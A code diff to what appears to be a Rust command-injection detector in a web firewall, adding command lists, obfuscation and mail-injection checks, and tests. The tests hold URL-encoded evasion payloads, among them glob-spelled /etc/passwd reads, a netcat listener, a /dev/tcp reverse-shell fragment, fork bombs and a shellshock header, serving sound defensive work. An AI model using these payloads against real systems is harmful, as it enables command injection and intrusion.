@@ -206,6 +206,62 @@ const STRONG_CMDS: &[&str] = &[
     "for",
     "if",
     "vi",
+    // System administration and packaging tools.
+    "flock",
+    "perf",
+    "rmt",
+    "lastlog",
+    "lastb",
+    "ex",
+    "ansible",
+    "chef",
+    "bsdtar",
+    "adduser",
+    "deluser",
+    "userdel",
+    "groupadd",
+    "shred",
+    "insmod",
+    "modprobe",
+    "rmmod",
+    "lsmod",
+    "nsenter",
+    "unshare",
+    "setfacl",
+    "chattr",
+    "dmesg",
+    "sysctl",
+    "pkexec",
+    "runuser",
+    "tmux",
+    "screen",
+    "apt",
+    "apt-get",
+    "dpkg",
+    "rpm",
+    "yum",
+    "pip",
+    "pip3",
+    "npm",
+    "git",
+    "docker",
+    "kubectl",
+    // Windows administration tools.
+    "regedit",
+    "bcdboot",
+    "bcdedit",
+    "vssadmin",
+    "wevtutil",
+    "schtasks",
+    "netsh",
+    "icacls",
+    "cacls",
+    "takeown",
+    "findstr",
+    "forfiles",
+    "msiexec",
+    "msbuild",
+    "diskpart",
 ];
 
 /// Commands that run another command given as their arguments.
@@ -217,7 +273,7 @@ const PREFIXES: &[&str] = &[
 /// Prefixes of command families whose members are all commands.
 const FAMILIES: &[&str] = &[
     "python", "ansible", "chef-", "perl5", "ruby2", "ruby3", "php7", "php8", "node1", "gcc",
-    "base32", "base64", "zstd", "bzip", "gzip", "busybox",
+    "base32", "base64", "zstd", "bzip", "gzip", "busybox", "aa-", "rmt-", "apt-",
 ];
 
 /// Of the commands above, these are ordinary English words and need more context.
@@ -229,6 +285,7 @@ const WORDLIKE: &[&str] = &[
     "set", "net", "sort", "start", "call", "for", "if", "w", "who", "dir", "id", "ping", "sleep",
     "touch", "env", "reg", "sh", "expr", "nl", "od", "rev", "sed", "node", "ls", "ps", "cp", "mv",
     "rm", "vi", "timeout", "ver", "dig", "exec", "eval", "php", "perl", "python", "ruby", "lua",
+    "ex", "chef", "screen", "perf", "apt", "git", "docker", "npm", "pip",
 ];
 
 /// Interpreter/code-execution calls (PHP, Python, Perl, Node) that run commands.
@@ -301,6 +358,9 @@ impl Cmdi {
         {
             sink.push("cmdi.shellshock", Category::Cmdi, STRONG, loc, lower, p);
         }
+        if has_paren && let Some(p) = function_definition(s) {
+            sink.push("cmdi.function", Category::Cmdi, STRONG, loc, lower, p);
+        }
         let has_meta = s.iter().any(|b| {
             matches!(
                 b,
@@ -328,8 +388,7 @@ impl Cmdi {
                 at,
             );
         }
-        if let Some(p) = memchr::memmem::find(s, b"$((") {
-            // Arithmetic expansion: no data format uses `$((`.
+        if let Some(p) = arithmetic_expansion(s) {
             sink.push("cmdi.substitution", Category::Cmdi, STRONG, loc, lower, p);
         }
         if let Some(at) = windows_batch(lower) {
@@ -338,9 +397,30 @@ impl Cmdi {
         if let Some(at) = glob_path(lower) {
             sink.push("cmdi.glob_path", Category::Cmdi, STRONG, loc, lower, at);
         }
+        if let Some(at) = obfuscated_word(s) {
+            sink.push("cmdi.obfuscation", Category::Cmdi, STRONG, loc, lower, at);
+        }
+        if is_tilde_expansion(s) {
+            sink.push("cmdi.obfuscation", Category::Cmdi, STRONG, loc, lower, 0);
+        }
         self.leading_command(s, lower, loc, sink);
         if !has_meta {
             return;
+        }
+        if let Some(at) = mail_injection(s) {
+            sink.push("cmdi.mail_command", Category::Cmdi, STRONG, loc, lower, at);
+        }
+        if memchr::memchr(b'$', s).is_some()
+            && let Some(at) = variable_command(s)
+        {
+            sink.push(
+                "cmdi.variable_command",
+                Category::Cmdi,
+                STRONG,
+                loc,
+                lower,
+                at,
+            );
         }
         // Variable-insertion evasion (`/bin$u/cat`, `c${x}at`): scan a copy without
         // the variables as well.
@@ -359,33 +439,47 @@ impl Cmdi {
 
     /// A command with path or flag arguments as the whole value.
     fn leading_command(&self, s: &[u8], lower: &str, loc: &Location, sink: &mut Sink<'_>) {
-        if let Some((cmd, after)) = command_at(s, 0) {
-            let tail = &s[after..];
-            let flag = flag_arg(tail);
-            // `ls -l /etc/`: flags followed by an absolute path count as a path argument.
-            let abs_arg = tail.starts_with(b" /")
-                || tail.starts_with(b" ~/")
-                || drive_path(tail)
-                || flag && memchr::memmem::find(tail, b" /").is_some();
-            let wordlike = WORDLIKE.contains(&cmd);
-            // Wrapper commands (`time sh -c`, `nohup ifconfig`) followed by a command.
-            // ("time for lunch" is prose: the wrapped command must be unambiguous.)
-            if PREFIXES.contains(&cmd)
-                && command_at(s, after)
-                    .is_some_and(|(c, a)| !WORDLIKE.contains(&c) || flag_arg(&s[a..]))
-            {
-                sink.push("cmdi.command", Category::Cmdi, STRONG, loc, lower, 0);
-                return;
-            }
-            let sc = match (wordlike, abs_arg, flag) {
-                (_, true, _) => STRONG,
-                (false, false, true) => STRONG,
-                (true, false, true) => 6,
-                _ => 0,
-            };
-            if sc > 0 {
-                sink.push("cmdi.command", Category::Cmdi, sc, loc, lower, 0);
-            }
+        let Some(cmd) = command_at(s, 0) else {
+            return;
+        };
+        let tail = squeeze(&s[cmd.after..]);
+        let flag = flag_arg(tail);
+        // `ls -l /etc/`: flags followed by an absolute path count as a path argument.
+        let abs_arg = tail.starts_with(b" /")
+            || tail.starts_with(b" ~/")
+            || drive_path(tail)
+            || flag && memchr::memmem::find(tail, b" /").is_some();
+        let wordlike = WORDLIKE.contains(&cmd.name);
+        // Wrapper commands (`time sh -c`, `nohup ifconfig`) followed by a command.
+        // ("time for lunch" is prose: the wrapped command must be unambiguous.)
+        if PREFIXES.contains(&cmd.name)
+            && command_at(s, cmd.after)
+                .is_some_and(|c| !WORDLIKE.contains(&c.name) || flag_arg(&s[c.after..]))
+        {
+            sink.push("cmdi.command", Category::Cmdi, STRONG, loc, lower, 0);
+            return;
+        }
+        // Shell syntax right after the command (`ifconfig;`, `curl|sh`) or the
+        // newline that submits a command line (`visudo\n`).
+        let terminated = tail
+            .first()
+            .is_some_and(|b| matches!(b, b';' | b'|' | b'&' | b'`'));
+        let ends_line = s.ends_with(b"\n");
+        let sc = if cmd.split
+            || cmd.bin_path
+            || abs_arg
+            || (!wordlike && (flag || terminated || ends_line))
+            || long_flag_arg(tail)
+            || (flag && ends_line)
+        {
+            STRONG
+        } else if flag {
+            6
+        } else {
+            0
+        };
+        if sc > 0 {
+            sink.push("cmdi.command", Category::Cmdi, sc, loc, lower, 0);
         }
     }
 
@@ -402,31 +496,16 @@ impl Cmdi {
         let mut budget = 64;
         while i < s.len() && budget > 0 {
             let c = s[i];
-            let (is_sep, skip) = match c {
-                b';' | b'\n' | b'\r' => (true, 1),
-                b'|' | b'&' => (true, if s.get(i + 1) == Some(&c) { 2 } else { 1 }),
-                b'`' => (true, 1),
-                b'$' if s.get(i + 1) == Some(&b'(') => {
-                    (true, if s.get(i + 2) == Some(&b'(') { 3 } else { 2 })
-                }
-                b'$' if s.get(i + 1) == Some(&b'{') => (true, 2),
-                b'<' | b'>' if s.get(i + 1) == Some(&b'(') => (true, 2),
-                // A literal `\n` is a newline once the value is unescaped downstream.
-                b'\\' if matches!(s.get(i + 1), Some(b'n' | b'r')) => (true, 2),
-                // A command string passed to `exec('...')`, `system("...")`.
-                b'(' if matches!(s.get(i + 1), Some(b'\'' | b'"')) => (true, 1),
-                _ => (false, 1),
-            };
-            if !is_sep {
+            let Some(skip) = separator(s, i) else {
                 i += 1;
                 continue;
-            }
+            };
             budget -= 1;
             let sep_at = i;
             i += skip;
-            if let Some((cmd, after)) = command_at(s, i) {
-                let wordlike = WORDLIKE.contains(&cmd);
-                let tail = &s[after..];
+            if let Some(cmd) = command_at(s, i) {
+                let wordlike = WORDLIKE.contains(&cmd.name);
+                let tail = squeeze(&s[cmd.after..]);
                 // Arguments that look like shell usage: flags, paths, redirections, more metachars.
                 let shellish_args = tail.first().is_none_or(|&b| {
                     matches!(
@@ -458,8 +537,25 @@ impl Cmdi {
                     || tail.starts_with(b"\\")
                     || drive_path(tail)
                     || (tail.starts_with(b" ") && tail.len() > 1 && is_word(tail[1]) && !wordlike);
-                let sub = matches!(c, b'`' | b'$' | b'(') || s.get(sep_at + 1) == Some(&b'(');
+                // Substitutions and subshells: `` `id` ``, `$(id)`, `&& (sh)`.
+                let sub = matches!(c, b'`' | b'$' | b'(')
+                    || s.get(sep_at + 1) == Some(&b'(')
+                    || s.get(i) == Some(&b'(');
+                // Markdown code spans (``run `npm install` then``): a backtick pair
+                // around plain words, set off by blanks.
+                let code_span = c == b'`'
+                    && sep_at > 0
+                    && s[sep_at - 1].is_ascii_whitespace()
+                    && memchr::memchr(b'`', &s[i..]).is_some_and(|e| {
+                        s[i..i + e]
+                            .iter()
+                            .all(|&b| is_word(b) || matches!(b, b' ' | b'.' | b'-'))
+                            && s.get(i + e + 1)
+                                .is_none_or(|b| !b.is_ascii_alphanumeric() && *b != b'`')
+                    });
                 let sc = match (wordlike, shellish_args || sub) {
+                    _ if cmd.split => STRONG,
+                    _ if code_span => 3,
                     (false, true) => STRONG,
                     (false, false) => 6,
                     (true, true) => {
@@ -478,12 +574,420 @@ impl Cmdi {
     }
 }
 
+/// If a shell command separator or substitution opener starts at `i`, its length.
+fn separator(s: &[u8], i: usize) -> Option<usize> {
+    let c = s[i];
+    if !SEP_START[usize::from(c)] {
+        return None;
+    }
+    match c {
+        b';' | b'\n' | b'\r' | b'`' => Some(1),
+        b'|' | b'&' => Some(if s.get(i + 1) == Some(&c) { 2 } else { 1 }),
+        b'$' if s.get(i + 1) == Some(&b'(') => {
+            Some(if s.get(i + 2) == Some(&b'(') { 3 } else { 2 })
+        }
+        b'$' if s.get(i + 1) == Some(&b'{') => Some(2),
+        b'<' | b'>' if s.get(i + 1) == Some(&b'(') => Some(2),
+        // A literal `\n` is a newline once the value is unescaped downstream.
+        b'\\' if matches!(s.get(i + 1), Some(b'n' | b'r')) => Some(2),
+        // A command string passed to `exec('...')`, `system("...")`.
+        b'(' if matches!(s.get(i + 1), Some(b'\'' | b'"')) => Some(1),
+        _ => None,
+    }
+}
+
+/// Bytes that can start a [`separator`].
+static SEP_START: [bool; 256] = {
+    let mut t = [false; 256];
+    let bytes = b";\n\r`|&$<>\\(";
+    let mut k = 0;
+    while k < bytes.len() {
+        t[bytes[k] as usize] = true;
+        k += 1;
+    }
+    t
+};
+
+/// `$((1+1))` and the older `$[1+1]`: arithmetic expansion, which no data format
+/// uses (JSONPath's `$[0]` has no operator).
+fn arithmetic_expansion(s: &[u8]) -> Option<usize> {
+    if let Some(p) = memchr::memmem::find(s, b"$((") {
+        return Some(p);
+    }
+    let p = memchr::memmem::find(s, b"$[")?;
+    let body = &s[p + 2..];
+    let end = memchr::memchr(b']', body).filter(|&e| e <= 32)?;
+    let inner = &body[..end];
+    let only_arith = inner
+        .iter()
+        .all(|&b| is_word(b) || matches!(b, b'+' | b'-' | b'*' | b'/' | b'%' | b' ' | b'$'));
+    let has_op = inner
+        .iter()
+        .any(|&b| matches!(b, b'+' | b'-' | b'*' | b'/' | b'%'));
+    (only_arith && has_op).then_some(p)
+}
+
+/// `$x -flag`, `${SHELL} -c ...`, `c=cat;$c $a`: a variable used as the
+/// command word. Text mentions `$name`, but not in command position followed by
+/// shell arguments, nor right after assigning it.
+fn variable_command(s: &[u8]) -> Option<usize> {
+    let mut assigned: [&[u8]; 8] = [&[]; 8];
+    let mut n_assigned = 0;
+    let mut pos = 0;
+    let mut budget = 64;
+    loop {
+        let mut k = pos;
+        while k < s.len() && matches!(s[k], b' ' | b'\t' | b'(' | b'{') {
+            k += 1;
+        }
+        let name_len = s[k..].iter().take_while(|&&b| is_word(b)).count();
+        if name_len > 0 && s.get(k + name_len) == Some(&b'=') && !s[k].is_ascii_digit() {
+            if n_assigned < assigned.len() {
+                assigned[n_assigned] = &s[k..k + name_len];
+                n_assigned += 1;
+            }
+        } else if let Some((name, end)) = var_ref(s, k) {
+            let tail = &s[end..];
+            let letter_flag = tail.starts_with(b" -")
+                && tail[2..]
+                    .iter()
+                    .find(|&&b| b != b'-')
+                    .is_some_and(u8::is_ascii_alphabetic);
+            if letter_flag || tail.starts_with(b" /") || assigned[..n_assigned].contains(&name) {
+                return Some(k);
+            }
+        }
+        // On to the next command position.
+        let mut i = k;
+        loop {
+            if i >= s.len() || budget == 0 {
+                return None;
+            }
+            if let Some(skip) = separator(s, i)
+                && s[i] != b'$'
+            {
+                budget -= 1;
+                pos = i + skip;
+                break;
+            }
+            i += 1;
+        }
+    }
+}
+
+/// `$name` or `${name}` at `k`: the name and the offset after the reference.
+fn var_ref(s: &[u8], k: usize) -> Option<(&[u8], usize)> {
+    if s.get(k) != Some(&b'$') {
+        return None;
+    }
+    if s.get(k + 1) == Some(&b'{') {
+        let e = memchr::memchr(b'}', &s[k + 2..]).filter(|&e| e > 0 && e <= 32)?;
+        let name = &s[k + 2..k + 2 + e];
+        return name
+            .iter()
+            .all(|&b| is_word(b))
+            .then_some((name, k + 3 + e));
+    }
+    let first = *s.get(k + 1)?;
+    if !(first.is_ascii_alphabetic() || first == b'_') {
+        return None;
+    }
+    let len = s[k + 1..].iter().take_while(|&&b| is_word(b)).count();
+    Some((&s[k + 1..k + 1 + len], k + 1 + len))
+}
+
+/// A word that only a shell turns into a command or a sensitive path: split by
+/// empty quotes or substitutions (`cu$@rl`, `ping$()`, `pi>()ng`, `c$*at`,
+/// `py''thon`), escaped (`\ls`), or built by brace expansion and one-character
+/// globs (`c{a,oun}t`, `{cat,/etc/passwd}`, `adduse[r]`).
+fn obfuscated_word(s: &[u8]) -> Option<usize> {
+    if !s.iter().any(|b| {
+        matches!(
+            b,
+            b'\'' | b'"' | b'\\' | b'$' | b'`' | b'[' | b'{' | b'<' | b'>'
+        )
+    }) {
+        return None;
+    }
+    let mut start = 0;
+    for word in s.split(|&b| matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'='))
+    {
+        let at = start;
+        start += word.len() + 1;
+        if word.len() < 2 || word.len() > 64 {
+            continue;
+        }
+        if brace_list_command(word) {
+            return Some(at);
+        }
+        let mut buf = [0u8; 64];
+        let mut len = 0;
+        let mut marker = false;
+        let mut quotes = 0;
+        let mut k = 0;
+        while k < word.len() {
+            let b = word[k];
+            let next = word.get(k + 1).copied();
+            let inner = k > 0 && k + 1 < word.len();
+            match b {
+                b'\'' | b'"' => {
+                    quotes += 1;
+                    marker |= inner;
+                    k += 1;
+                    continue;
+                }
+                b'\\' => {
+                    marker = true;
+                    k += 1;
+                    continue;
+                }
+                b'$' if matches!(next, Some(b'@' | b'*' | b'#' | b'-' | b'!' | b'?')) => {
+                    marker = true;
+                    k += 2;
+                    continue;
+                }
+                b'$' if next == Some(b'(') && word.get(k + 2) == Some(&b')') => {
+                    marker = true;
+                    k += 3;
+                    continue;
+                }
+                b'$' => {
+                    if let Some((_, end)) = var_ref(word, k) {
+                        marker = true;
+                        k = end;
+                        continue;
+                    }
+                }
+                b'`' if next == Some(b'`') => {
+                    marker = true;
+                    k += 2;
+                    continue;
+                }
+                b'<' | b'>' if next == Some(b'(') && word.get(k + 2) == Some(&b')') => {
+                    marker = true;
+                    k += 3;
+                    continue;
+                }
+                b'[' => {
+                    if let Some(e) = memchr::memchr(b']', &word[k..]).filter(|&e| e >= 2) {
+                        // A bracket class: keep its first member.
+                        marker = true;
+                        if len < buf.len() {
+                            buf[len] = word[k + 1];
+                            len += 1;
+                        }
+                        k += e + 1;
+                        continue;
+                    }
+                }
+                b'{' if k > 0 => {
+                    if let Some(e) = memchr::memchr(b'}', &word[k..])
+                        && word[k..k + e].contains(&b',')
+                    {
+                        // Brace expansion inside a word: keep the first alternative.
+                        marker = true;
+                        for &c in word[k + 1..k + e]
+                            .split(|&c| c == b',')
+                            .next()
+                            .unwrap_or_default()
+                        {
+                            if len < buf.len() {
+                                buf[len] = c;
+                                len += 1;
+                            }
+                        }
+                        k += e + 1;
+                        continue;
+                    }
+                }
+                _ => {}
+            }
+            if len < buf.len() {
+                buf[len] = b;
+                len += 1;
+            }
+            k += 1;
+        }
+        if !marker || quotes % 2 == 1 {
+            continue;
+        }
+        let cleaned = &buf[..len];
+        if SENSITIVE_PATHS
+            .iter()
+            .any(|p| memchr::memmem::find(cleaned, p.as_bytes()).is_some())
+        {
+            return Some(at);
+        }
+        let base = cleaned.rsplit(|&b| b == b'/').next().unwrap_or(cleaned);
+        let base = base.strip_suffix(b".exe").unwrap_or(base);
+        if !base.is_empty() && lookup(base).is_some() {
+            return Some(at);
+        }
+    }
+    None
+}
+
+/// Paths whose obfuscated spelling is an attack on its own.
+const SENSITIVE_PATHS: &[&str] = &["/etc/passwd", "/etc/shadow", "/bin/", "/dev/tcp/"];
+
+/// `{cat,/etc/passwd}`, `{,cd,/etc,}`: brace expansion that spells a command line
+/// without blanks. (`{id,name}` field lists have no argument-like second item.)
+fn brace_list_command(word: &[u8]) -> bool {
+    let Some(inner) = word.strip_prefix(b"{").and_then(|w| w.strip_suffix(b"}")) else {
+        return false;
+    };
+    if !inner.contains(&b',') {
+        return false;
+    }
+    let mut items = inner.split(|&b| b == b',');
+    let mut leading_empty = false;
+    let first = loop {
+        match items.next() {
+            Some([]) => leading_empty = true,
+            Some(w) => break w,
+            None => return false,
+        }
+    };
+    let arg_like = items
+        .next()
+        .and_then(|w| w.first())
+        .is_some_and(|b| matches!(b, b'-' | b'/' | b'.' | b'~' | b'$' | b'#'));
+    (leading_empty || arg_like) && command_at(first, 0).is_some_and(|c| c.after == first.len())
+}
+
+/// `~+`, `~-`, `~+2`: tilde expansions of the shell's directory stack as a whole
+/// value.
+fn is_tilde_expansion(s: &[u8]) -> bool {
+    let t = s.trim_ascii();
+    t.len() >= 2
+        && t[0] == b'~'
+        && matches!(t[1], b'+' | b'-')
+        && t[2..].iter().all(u8::is_ascii_digit)
+}
+
+/// A CR/LF followed by an SMTP, POP3 or IMAP command: injection into a mail
+/// protocol conversation (`\r\nRCPT TO:<x>`, `\r\nRETR 1`, `\r\na1 FETCH 1 BODY[]`).
+fn mail_injection(s: &[u8]) -> Option<usize> {
+    const IMAP: &[&[u8]] = &[
+        b"login",
+        b"select",
+        b"examine",
+        b"status",
+        b"fetch",
+        b"store",
+        b"copy",
+        b"append",
+        b"list",
+        b"lsub",
+        b"logout",
+        b"uid",
+        b"search",
+        b"create",
+        b"delete",
+        b"rename",
+        b"capability",
+        b"authenticate",
+        b"starttls",
+        b"expunge",
+    ];
+    let num =
+        |w: Option<&[u8]>| w.is_some_and(|w| !w.is_empty() && w.iter().all(u8::is_ascii_digit));
+    for nl in memchr::memchr_iter(b'\n', s) {
+        let rest = &s[nl + 1..];
+        let line = &rest[..memchr::memchr2(b'\r', b'\n', rest).unwrap_or(rest.len())];
+        if line.starts_with(b"mail from:")
+            || line.starts_with(b"rcpt to:")
+            || line.starts_with(b"vrfy ")
+            || line.starts_with(b"expn ")
+        {
+            return Some(nl);
+        }
+        let mut words = line.split(|&b| b == b' ');
+        let (w0, w1, w2) = (words.next(), words.next(), words.next());
+        let pop3 = match w0 {
+            Some(b"retr" | b"dele") => num(w1) && w2.is_none(),
+            Some(b"top") => num(w1) && num(w2),
+            _ => false,
+        };
+        let imap = w0.is_some_and(|t| {
+            t.len() <= 10
+                && t.iter().all(u8::is_ascii_alphanumeric)
+                && t.iter().any(u8::is_ascii_digit)
+                && t.iter().any(u8::is_ascii_alphabetic)
+        }) && w1.is_some_and(|v| IMAP.contains(&v));
+        if pop3 || imap {
+            return Some(nl);
+        }
+    }
+    None
+}
+
+/// `f(){ f|f& };f`, `test() { test | test & } test`: a shell function defined and
+/// then run (fork bombs and their relatives). JavaScript methods are neither
+/// piped into themselves nor called without parentheses.
+fn function_definition(s: &[u8]) -> Option<usize> {
+    for p in memchr::memmem::find_iter(s, b"()") {
+        let name_start = if p > 0 && s[p - 1] == b':' {
+            p - 1
+        } else {
+            p - s[..p].iter().rev().take_while(|&&b| is_word(b)).count()
+        };
+        let name = &s[name_start..p];
+        if name.is_empty() || s[..name_start].ends_with(b"function ") {
+            continue;
+        }
+        let mut k = p + 2;
+        while k < s.len() && s[k] == b' ' {
+            k += 1;
+        }
+        if s.get(k) != Some(&b'{') {
+            continue;
+        }
+        let Some(close) = memchr::memchr(b'}', &s[k..]).map(|e| k + e) else {
+            continue;
+        };
+        let body = &s[k + 1..close];
+        let piped = body.split(|&b| b == b'|').count() > 1
+            && body
+                .split(|&b| matches!(b, b'|' | b'&' | b' ' | b';'))
+                .any(|w| w == name || w.strip_suffix(b"()") == Some(name));
+        let after = s[close + 1..].trim_ascii_start();
+        let after = after.strip_prefix(b";").unwrap_or(after).trim_ascii_start();
+        let called = after.starts_with(name)
+            && after
+                .get(name.len())
+                .is_none_or(|&b| matches!(b, b' ' | b';' | b'&' | b'|' | b'\n'));
+        if piped || called {
+            return Some(name_start);
+        }
+    }
+    None
+}
+
 /// ` -x` or ` --long` (a dash between words, ` - `, is prose).
 fn flag_arg(tail: &[u8]) -> bool {
     tail.starts_with(b" -")
         && tail
             .get(2)
             .is_some_and(|&b| b.is_ascii_alphanumeric() || b == b'-')
+}
+
+/// `tail` with a run of blanks before the first argument cut to one (`ls    -la`).
+fn squeeze(tail: &[u8]) -> &[u8] {
+    let blanks = tail
+        .iter()
+        .take_while(|&&b| b == b' ' || b == b'\t')
+        .count();
+    if blanks > 1 {
+        &tail[blanks - 1..]
+    } else {
+        tail
+    }
+}
+
+/// ` --long`: a long option (an em dash, ` -- `, is prose).
+fn long_flag_arg(tail: &[u8]) -> bool {
+    tail.starts_with(b" --") && tail.get(3).is_some_and(u8::is_ascii_alphabetic)
 }
 
 /// ` c:\\` or ` c:/` at the start of `tail`.
@@ -569,7 +1073,14 @@ fn windows_batch(lower: &str) -> Option<usize> {
             || rest.starts_with('"')
             || rest.starts_with('(')
             || rest.starts_with('{');
+        // `if a==b cmd`: a comparison of two bare words followed by a command.
+        let bare_cmp = rest.split_once(' ').is_some_and(|(c, after)| {
+            c.split_once("==")
+                .is_some_and(|(l, r)| !l.is_empty() && !r.is_empty())
+                && after.starts_with(|ch: char| ch.is_ascii_alphabetic())
+        });
         if keyword
+            || bare_cmp
             || (cmp
                 && (var || rest.contains('%') || rest.contains("echo") || rest.contains("goto")))
         {
@@ -604,6 +1115,15 @@ fn glob_path(lower: &str) -> Option<usize> {
         "/bin/netcat",
         "/usr/bin/python",
     ];
+    const DIRS: &[&str] = &[
+        "/etc",
+        "/etc/",
+        "/bin",
+        "/bin/",
+        "/usr/bin",
+        "/dev/tcp",
+        "/proc/self",
+    ];
     let b = lower.as_bytes();
     if !b.iter().any(|c| matches!(c, b'?' | b'*' | b'[')) {
         return None;
@@ -622,8 +1142,15 @@ fn glob_path(lower: &str) -> Option<usize> {
         {
             continue;
         }
+        // The word must spell part of the target literally: `/*` alone (a code
+        // comment) matches everything. A globbed system directory (`/[e]tc`,
+        // `/b?n`) names a target too.
+        if word.bytes().filter(u8::is_ascii_alphanumeric).count() < 2 {
+            continue;
+        }
         if TARGETS
             .iter()
+            .chain(DIRS)
             .any(|t| glob_match(word.as_bytes(), t.as_bytes(), 0))
         {
             return Some(start);
@@ -668,16 +1195,43 @@ fn glob_match(p: &[u8], t: &[u8], depth: u32) -> bool {
     }
 }
 
-/// Reads a command word at `i` (after optional blanks, quotes and a path prefix);
-/// returns the matched command and the offset after it.
-fn command_at(s: &[u8], mut i: usize) -> Option<(&'static str, usize)> {
+/// A command word found by [`command_at`].
+#[derive(Clone, Copy)]
+struct Cmd {
+    name: &'static str,
+    /// Offset after the word.
+    after: usize,
+    /// Spelled with a `bin/` directory (`bin/ansible`, `/usr/bin/id`).
+    bin_path: bool,
+    /// Split by quotes or escaped (`w'h'o'am'i`, `py""thon`, `\ls`): only a shell
+    /// reassembles such a word, so it is evasion.
+    split: bool,
+}
+
+/// Reads a command word at `i` (after optional blanks, quotes and a path prefix).
+fn command_at(s: &[u8], mut i: usize) -> Option<Cmd> {
+    let mut escaped = false;
     while i < s.len()
         && matches!(
             s[i],
             b' ' | b'\t' | b'\'' | b'"' | b'(' | b'{' | b'\\' | b'!'
         )
     {
+        escaped = s[i] == b'\\' && !matches!(s.get(i + 1), Some(b'n' | b'r' | b't'));
         i += 1;
+    }
+    // SQLite shell dot-commands (`.shell CMD`, `.system CMD`) and the POSIX `.`
+    // (source) builtin run what follows: skip the dot.
+    // (`.env`, `.git` are file names, not commands.)
+    let mut dot_word = false;
+    let dot = s.get(i) == Some(&b'.') && !matches!(s.get(i + 1), Some(b'.' | b'/'));
+    if dot {
+        i += 1;
+        dot_word = true;
+        while i < s.len() && matches!(s[i], b' ' | b'\t' | b'\'' | b'"' | b'\\') {
+            dot_word = false;
+            i += 1;
+        }
     }
     // `/usr/bin/id`, `/bin/cat`: take the last path segment.
     let start = i;
@@ -712,18 +1266,50 @@ fn command_at(s: &[u8], mut i: usize) -> Option<(&'static str, usize)> {
     if base.is_empty() {
         return None;
     }
+    if dot && matches!(base, b"shell" | b"system") {
+        return Some(Cmd {
+            name: "exec",
+            after: i,
+            bin_path: false,
+            split: true,
+        });
+    }
+    if dot_word {
+        return None;
+    }
+    // Quotes strictly inside the word, balanced (an apostrophe as in "I'd" is not).
+    let inner = word
+        .get(1..word.len().saturating_sub(1))
+        .unwrap_or_default();
+    let quotes = word.iter().filter(|&&b| b == b'\'' || b == b'"').count();
+    let split = escaped
+        || inner.contains(&b'\\')
+        || (quotes >= 2 && quotes % 2 == 0 && inner.iter().any(|&b| b == b'\'' || b == b'"'));
+    let bin_path =
+        cleaned.len() > base.len() && cleaned[..cleaned.len() - base.len()].ends_with(b"bin/");
+    let name = lookup(base)?;
+    Some(Cmd {
+        name,
+        after: i,
+        bin_path,
+        split,
+    })
+}
+
+/// The known command `base` is, if any.
+fn lookup(base: &[u8]) -> Option<&'static str> {
     // Called at every separator of every value: a set beats a linear scan.
     static SET: std::sync::OnceLock<std::collections::HashMap<&'static [u8], &'static str>> =
         std::sync::OnceLock::new();
     let set = SET.get_or_init(|| STRONG_CMDS.iter().map(|c| (c.as_bytes(), *c)).collect());
     if let Some(c) = set.get(base) {
-        return Some((c, i));
+        return Some(c);
     }
     // Versioned interpreters and tool families (`python3.10`, `ansible-playbook`).
     FAMILIES
         .iter()
         .find(|f| base.starts_with(f.as_bytes()) && base.len() > f.len())
-        .map(|f| (*f, i))
+        .copied()
 }
 
 #[cfg(test)]
@@ -750,6 +1336,85 @@ mod tests {
         }
         let raw = "GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n\r\n";
         assert_eq!(run(raw).1, Action::Ban);
+    }
+
+    /// One payload per evasion class: each must be banned on its own.
+    #[test]
+    fn evasions() {
+        for p in [
+            // Empty substitutions and special parameters inside a word.
+            "cu%24%40rl+example.com",
+            "ping%60%60%20127.0.0.1",
+            "ping$()%20127.0.0.1",
+            "pi>()ng%20127.0.0.1",
+            "x;c%24*at+/et%24*c/pas%24*swd",
+            // Quote splitting and escaping.
+            "py%27%27thon+-c+%22print(1)%22",
+            "%22%22w%22%22h%22%22o%22%22a%22%22m%22%22i",
+            "%5Cls",
+            // Brace expansion and one-character globs.
+            "%7Bcat,/etc/passwd%7D",
+            "%7B,cd,/etc,%7D",
+            "c%7Ba,oun%7Dt+/etc/hosts",
+            "/%5Be%5Dtc",
+            "/???/c?t+/???/p??swd",
+            // Variables as commands.
+            "a%3Dnc%26%26%24a+-nlvp+555",
+            "c1%3Dc%3Bc2%3Dat%3B%24c1%24c2+x",
+            "%24%7BSHELL%7D+-c+id",
+            "%24%5B2%2B2%5D",
+            // Subshells, separators without blanks, multiple blanks.
+            "d%3D/dev%26%26(sh)0>%24d/tcp/1.2.3.4/80",
+            "ifconfig%3B",
+            "x%26bcdboot%20%20%20/r%20file.txt",
+            // A command line submitted with its newline; long options.
+            "visudo%0A",
+            "env+--version",
+            "bin/ansible",
+            // sqlite3 shell dot-commands.
+            "1%3B.shell+whoami",
+            "%22%3B%0A.+system+id",
+            // Fork bombs and other function definitions that run.
+            ":()%7B+:|:%26+%7D%3B:",
+            "f()%7B+f|f%26+%7D%3Bf",
+            // Mail protocol commands after CRLF.
+            "%0D%0AMAIL+FROM:%3Ca@b.c%3E",
+            "%0D%0ARETR+1",
+            "%0D%0Aa001+FETCH+1+BODY[]",
+            // Directory stack expansion, batch comparisons.
+            "~%2B",
+            "if+a%3D%3Db+foo",
+        ] {
+            assert_eq!(q(p), Action::Ban, "{p}");
+        }
+        // The referring page's parameters are inspected one by one.
+        let raw = "GET / HTTP/1.1\r\nReferer: https://example.com/?args=env --version\r\n\r\n";
+        assert_eq!(run(raw).1, Action::Ban);
+    }
+
+    #[test]
+    fn evasion_lookalikes() {
+        for p in [
+            "I%27d+like+that",
+            "rock%27n%27roll",
+            "%7Bid,name%7D",
+            "%24a+%24b+%24c",
+            "%3B%24a+%24b",
+            "%24%5B0%5D.name",
+            "function+f()+%7B+return+1%3B+%7D",
+            "render()+%7B+return+x+%7C%7C+y%3B+%7D",
+            "Top+10+list%0Aretrieve+later",
+            "cats+%26+dogs%3B+birds+%7C+fish",
+            "/*+comment+*/",
+            ".env",
+            "Cut+orange+quarters+into+slices.%0A",
+            "price+%245+-+%2410",
+            "%7E5+minutes",
+            "Run+%60npm+install%60+then+%60npm+test%60.",
+            "Don%27t+%60rm%60+anything+yet%3B+I%27ll+check.",
+        ] {
+            assert_ne!(q(p), Action::Ban, "{p}");
+        }
     }
 
     #[test]
